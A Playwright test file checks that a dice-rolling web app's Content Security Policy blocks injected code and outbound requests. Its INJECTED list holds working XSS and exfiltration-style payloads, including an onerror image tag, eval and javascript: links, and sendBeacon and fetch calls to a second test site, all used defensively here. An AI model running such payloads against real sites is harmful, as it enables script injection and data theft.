"""The page's policy: no way of starting breaks it, nothing leaves the site, nothing injected runs."""

import re
from collections.abc import Callable
from functools import partial
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import eventually, ready, reload, visit
from tests.browser.hands import more, panel, put_clock, roll, rolls, saved, type_dice, type_modifier
from tests.browser.watch import Watch
from tools.browser.serve import Site

#: Reports what breaks the policy; the page learns of it as an event.
REPORT = """addEventListener("securitypolicyviolation", (event) => {
    violated(`${event.effectiveDirective}: ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`);
}, true)"""
POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">')


def reported(directive: str, violations: list[str]) -> bool:
    """Whether something was against this line of the policy."""
    return any(violation.startswith(directive) for violation in violations)


def reporting(page: Page) -> list[str]:
    """What the page does against its policy from now on."""
    found: list[str] = []
    page.expose_function("violated", lambda text: found.append(text))  # noqa: PLW0108 - Playwright takes no method
    page.add_init_script(REPORT)
    return found


@pytest.mark.long
@pytest.mark.kept
def test_an_evening_keeps_to_the_policy(own_site: Site, new_page: Callable[..., Page], watch: Watch) -> None:
    """Rolls, clocks, panels, sheets, files, sharing, an update, offline."""
    page = new_page()
    violations = reporting(page)
    visit(page, own_site)
    type_modifier(page, "edge", "Set Up")
    more(page).get_by_role("button", name="Share this check").click()
    page.keyboard.press("Escape")
    type_dice(page, [4, 4, 4, 4, 4])
    put_clock(page, "Flood")
    panel(page, "Solo oracle").get_by_role("button", name="Ask the oracle").click()
    panel(page, "Look up").get_by_role("button", name="Tables").click()
    page.keyboard.press("Escape")
    page.get_by_role("button", name="Show", exact=True).click()
    page.locator("[data-do=show-end]").click()
    page.locator("#head [popovertarget=sessions]").click()
    with page.expect_download() as file:
        page.locator("[data-do=session-save]").first.click()
    page.locator("input[data-input=session-load]").set_input_files(file.value.path())
    page.keyboard.press("Escape")
    saved(page)
    ready(page, 'data-offline="ready"')
    page.evaluate("navigator.serviceWorker.ready.then((registration) => registration.update())")
    page.context.set_offline(True)
    reload(page)
    roll(page)
    expect(rolls(page)).to_have_count(2)
    assert violations == []
    # What is no address of a place goes nowhere: the empty wasm of boot.mjs, and files that were made here.
    origin = own_site.url.removesuffix("/")
    known = (origin, "data:application/wasm,", f"blob:{origin}")
    assert [url for url in watch.requests if not url.startswith(known)] == []
    assert len([url for url in watch.requests if url.startswith(origin)]) > 30


#: Adds an element with these properties.
ADD = "(tag, given) => document.body.appendChild(Object.assign(document.createElement(tag), given))"
#: Each with the line of the policy that refuses it; some are refused by two.
INJECTED = (
    ("script-src-elem", "add('script', { text: 'ran = 1' })"),
    ("script-src-elem", "add('script', { src: `${away}x.js` })"),
    ("script-src-elem", "add('script', { src: 'data:text/javascript,ran=1' })"),
    ("script-src-elem", "add('a', { href: 'javascript:ran = 1' }).click()"),
    ("script-src", "try { eval('ran = 1') } catch {}"),
    ("script-src", "try { new Function('ran = 1')() } catch {}"),
    ("worker-src", "try { new Worker('data:text/javascript,') } catch {}"),
    ("script-src-attr", "add('p', { innerHTML: '<img alt src=x onerror=ran=1>' })"),
    ("style-src-elem", "add('style', { textContent: 'body { display: none }' })"),
    ("img-src", "add('img', { src: `${away}x.png` })"),
    ("connect-src", "navigator.sendBeacon(away, 'secret')"),
    ("connect-src", "fetch(away).catch(() => {})"),
    ("frame-src", "add('iframe', { src: './' })"),
    ("object-src", "add('object', { data: './x' })"),
    ("base-uri", "add('base', { href: away })"),
    ("form-action", "add('form', { action: away }).submit()"),
)
#: Rolls; how many rolls the log then has.
ROLLED = """async () => {
    document.querySelector("[data-do=roll]").click();
    const lines = () => document.querySelectorAll("[data-do=show][data-tone]").length;
    for (let tries = 0; !lines() && tries < 1000; tries++) await new Promise((done) => setTimeout(done, 50));
    return lines();
}"""


def test_what_is_injected_never_runs_and_goes_nowhere(site: Site, fresh_page: Page, dist: Path, watch: Watch) -> None:
    """Each is refused by its own line of the policy; the page goes on."""
    page = fresh_page
    watch.excuse("Content Security Policy", "violates", "ERR_BLOCKED_BY_CSP", "404")
    violations = reporting(page)
    visit(page, site)
    with Site(dist).start() as away:
        # What is refused is reported as a request all the same: the other site is there to see that none arrives.
        watch.allow(away.url)
        for directive, script in INJECTED:
            violations.clear()
            # In a task of its own: what a debugger evaluates may make code of text.
            page.evaluate(f"() => {{ setTimeout(() => {{ const add = {ADD}, away = '{away.url}'; {script}; }}) }}")
            eventually(page, partial(reported, directive, violations), (script, violations))
        assert page.evaluate("typeof ran") == "undefined"
        assert page.url == site.url
        assert away.requests == []
    # Not by a locator: Playwright would wait for the form that was not sent.
    assert page.evaluate(ROLLED) == 1


def test_the_policy_comes_before_whatever_it_is_about(dist: Path) -> None:
    """In the page as it is built: word for word as it must be, before all else; and nothing inline but Python."""
    html = (dist / "index.html").read_text(encoding="utf-8")
    (policy,) = POLICY.findall(html)
    said = {name: set(sources) for name, *sources in (each.split() for each in policy.split(";"))}
    none, own = {"'none'"}, {"'self'"}
    assert said == {
        **dict.fromkeys(("default-src", "base-uri", "form-action"), none),
        **dict.fromkeys(("style-src", "worker-src", "manifest-src"), own),
        "script-src": {*own, "'wasm-unsafe-eval'"},
        "img-src": {*own, "data:"},
        "connect-src": {*own, "data:"},
    }
    head = html[: html.index(policy)]
    assert not re.search(r"<(script|link|style)\b", head)
    assert not re.search(r'<script(?! type="py")(?![^>]*\bsrc=)|<style\b|\sstyle=|\son[a-z]+=', html)
    assert '<meta name="referrer" content="no-referrer">' in html
